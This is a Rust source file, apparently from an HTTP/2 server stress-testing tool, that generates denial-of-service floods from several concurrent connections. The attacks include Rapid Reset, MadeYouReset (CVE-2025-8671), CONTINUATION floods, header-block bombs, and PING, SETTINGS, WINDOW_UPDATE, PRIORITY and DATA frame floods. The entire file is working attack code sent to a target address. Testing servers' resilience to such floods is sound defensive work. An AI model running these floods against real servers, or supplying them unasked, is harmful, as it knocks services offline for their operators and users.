//! Floods over HTTP/2: the same few frames, over and over, as fast as they are taken.

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, timeout},
};

use crate::{
    frames::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GREETING, HEADERS, NO_FLAGS, PADDED,
        PING, PRIORITY, RESET, SETTINGS, UNKNOWN, WINDOW_UPDATE, bomb, call, frame,
    },
    peers::{Attack, LONGEST},
};

/// Frames of each peer, unless there is more in one of them or a stream in each.
const FRAMES: u32 = 50_000;
/// Streams that a peer opens.
const STREAMS: u32 = 10_000;

/// Bytes by the number of the frame, from 0.
type Words = Box<dyn Fn(u32) -> Vec<u8> + Send>;

/// The frames that each peer sends.
pub(crate) struct Flood {
    peers: u32,
    what: &'static str,
    count: u32,
    words: fn(path: &str) -> Words,
    path: String,
}

impl Flood {
    /// The flood of an attack at a path.
    ///
    /// # Panics
    /// If the attack is no flood.
    pub(crate) fn of(attack: Attack, path: &str) -> Self {
        let flood =
            |what, count, words| Self { peers: 5, what, count, words, path: path.to_owned() };
        match attack {
            Attack::HeaderBomb => Self { peers: 25, ..flood("blocks of 46 MB", 1, blocks) },
            Attack::RapidReset => flood("streams opened and reset", STREAMS, resets),
            Attack::MadeYouReset => flood("streams that the server resets", STREAMS, faults),
            Attack::ManyStreams => flood("streams opened", STREAMS, streams),
            Attack::ContinuationFlood => flood("CONTINUATION frames", FRAMES, continuations),
            Attack::EmptyDataFlood => {
                flood("empty DATA frames", FRAMES, |path| data(path, NO_FLAGS))
            }
            Attack::PaddedDataFlood => {
                flood("DATA frames of padding", FRAMES, |path| data(path, PADDED))
            }
            Attack::PingFlood => flood("PING frames", FRAMES, |_| same(PING, NO_FLAGS, &[0; 8])),
            Attack::UnaskedAcks => {
                flood("answers to no PING", FRAMES, |_| same(PING, ACK, &[0; 8]))
            }
            Attack::SettingsFlood => {
                flood("SETTINGS frames", FRAMES, |_| same(SETTINGS, NO_FLAGS, b""))
            }
            Attack::TableSizes => flood("sizes of the table of headers", FRAMES, table_sizes),
            Attack::WindowUpdateFlood => flood("WINDOW_UPDATE frames", FRAMES, |_| {
                same(WINDOW_UPDATE, NO_FLAGS, &[0, 0, 0, 1])
            }),
            Attack::PriorityFlood => flood("PRIORITY frames", FRAMES, priorities),
            Attack::UnknownFrames => {
                flood("frames of an unknown type", FRAMES, |_| same(UNKNOWN, NO_FLAGS, &[0; 64]))
            }
            Attack::IdleConnections
            | Attack::SlowPreface
            | Attack::SlowHeaders
            | Attack::SlowHttpHeaders
            | Attack::GzipBomb
            | Attack::LongMessages
            | Attack::HalfMessages
            | Attack::UnreadAnswers
            | Attack::HalfBodies
            | Attack::UnreadHttp
            | Attack::ManyHalfBodies
            | Attack::LongHalfBodies
            | Attack::ManyHalfMessages
            | Attack::UnreadReflection => unreachable!("{attack:?} is no flood"),
        }
    }

    /// Plays it to its end: how much was taken.
    pub(crate) async fn run(self, address: &str) -> String {
        let mut floods = JoinSet::new();
        for _ in 0..self.peers {
            floods.spawn(peer(address.to_owned(), (self.words)(&self.path), self.count));
        }
        let floods = floods.join_all().await;
        let sent: u64 = floods.iter().map(|(sent, _)| u64::from(*sent)).sum();
        let closed = floods.iter().filter(|(_, closed)| *closed).count();
        let (peers, what) = (self.peers, self.what);
        let most = u64::from(self.count) * u64::from(peers);
        format!("{sent} of {most} {what}; {closed} of {peers} connections cut before their end")
    }
}

/// Returns the number of frames that it sent, and whether the server has ended the connection.
async fn peer(address: String, words: Words, count: u32) -> (u32, bool) {
    let stream = TcpStream::connect(address).await.expect("a connection");
    let (mut reading, mut writing) = stream.into_split();
    let hearing = tokio::spawn(async move {
        let mut heard = Vec::new();
        drop(timeout(LONGEST, reading.read_to_end(&mut heard)).await);
    });
    let began = Instant::now();
    let mut sent = 0_u32;
    let mut closed = writing.write_all(GREETING).await.is_err();
    while sent < count && !closed && began.elapsed() < LONGEST {
        let next: Vec<u8> = (sent..(sent + 100).min(count)).flat_map(&words).collect();
        closed = !matches!(timeout(LONGEST, writing.write_all(&next)).await, Ok(Ok(())));
        sent += 100;
    }
    drop(writing);
    drop(hearing.await);
    (sent.min(count), closed)
}

/// The same frame of the connection again and again.
fn same(kind: u8, flags: u8, payload: &[u8]) -> Words {
    let frame = frame(kind, flags, 0, payload);
    Box::new(move |_| frame.clone())
}

/// One stream, and what comes on it.
fn on_one_stream(path: &str, flags: u8, next: Vec<u8>) -> Words {
    let opened = frame(HEADERS, flags, 1, &call(path));
    Box::new(move |number| if number == 0 { opened.clone() } else { next.clone() })
}

fn blocks(path: &str) -> Words {
    let block = frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb(path));
    Box::new(move |_| block.clone())
}

/// Streams, each opened and followed by a frame of its own.
fn streams_with(path: &str, flags: u8, then: impl Fn(u32) -> Vec<u8> + Send + 'static) -> Words {
    let opened = call(path);
    Box::new(move |number| {
        let stream = 2 * number + 1;
        [frame(HEADERS, flags, stream, &opened), then(stream)].concat()
    })
}

fn streams(path: &str) -> Words {
    streams_with(path, END_HEADERS, |_| Vec::new())
}

fn resets(path: &str) -> Words {
    let reset = |stream| frame(RESET, NO_FLAGS, stream, &[0, 0, 0, 8]);
    streams_with(path, END_HEADERS | END_STREAM, reset)
}

/// An increment of 0, for which the server resets the stream itself (RFC 9113 §6.9, CVE-2025-8671).
fn faults(path: &str) -> Words {
    streams_with(path, END_HEADERS, |stream| frame(WINDOW_UPDATE, NO_FLAGS, stream, &[0; 4]))
}

fn continuations(path: &str) -> Words {
    on_one_stream(path, NO_FLAGS, frame(CONTINUATION, NO_FLAGS, 1, &[0x00, 1, b'a', 1, b'b']))
}

/// Frames without a byte of a message; with `PADDED`, of padding alone.
fn data(path: &str, flags: u8) -> Words {
    let payload: &[u8] = if flags == PADDED { &[0; 256] } else { b"" };
    let mut payload = payload.to_vec();
    if let Some(length) = payload.first_mut() {
        *length = 255;
    }
    on_one_stream(path, END_HEADERS, frame(DATA, flags, 1, &payload))
}

/// `SETTINGS_HEADER_TABLE_SIZE`, the largest and 0 in turn, 100 times a frame.
fn table_sizes(_path: &str) -> Words {
    let largest = [0, 1, 0xff, 0xff, 0xff, 0xff];
    same(SETTINGS, NO_FLAGS, &[largest, [0, 1, 0, 0, 0, 0]].concat().repeat(50))
}

/// Of streams that are not open: each could be a node of a tree.
fn priorities(_path: &str) -> Words {
    Box::new(|number| frame(PRIORITY, NO_FLAGS, 2 * number + 1, &[0, 0, 0, 0, 15]))
}
